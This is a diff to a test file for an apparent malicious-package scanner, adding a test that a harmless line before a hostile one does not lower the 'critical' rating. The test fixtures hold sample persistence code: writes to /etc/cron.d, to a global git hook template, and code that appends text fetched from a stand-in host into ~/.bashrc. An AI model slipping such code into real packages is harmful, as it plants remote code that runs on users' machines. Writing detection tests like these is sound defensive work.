@@ -113,7 +113,11 @@ class TestAlarm:
         source = "import os\nopen('/etc/cron.d/x', 'w').write('x')\n"
         assert severities(wheel({"imgpress/__init__.py": source})) == ["high"]
         source = "import os, requests\nopen(os.path.expanduser('~/.bashrc'), 'a').write(requests.get('https://drop.example').text)\n"
-        assert "critical" in severities(wheel({"imgpress/__init__.py": source}))
+        assert severities(wheel({"imgpress/__init__.py": source})) == ["critical"]
+
+    def test_a_harmless_line_before_it_hides_nothing(self) -> None:
+        source = "import os, requests\np = os.path.expanduser('~/.bashrc')\nopen(p, 'a').write('# x')\nwith open(p, 'a') as f:\n    f.write(requests.get('https://drop.example').text)\n"
+        assert severities(wheel({"imgpress/__init__.py": source})) == ["critical"]
 
     def test_the_template_of_all_repositories_hooks_is_told_louder_than_one_repository_s(self) -> None:
         template = "require('fs').writeFileSync('/usr/share/git-core/templates/hooks/post-checkout', 'x');"
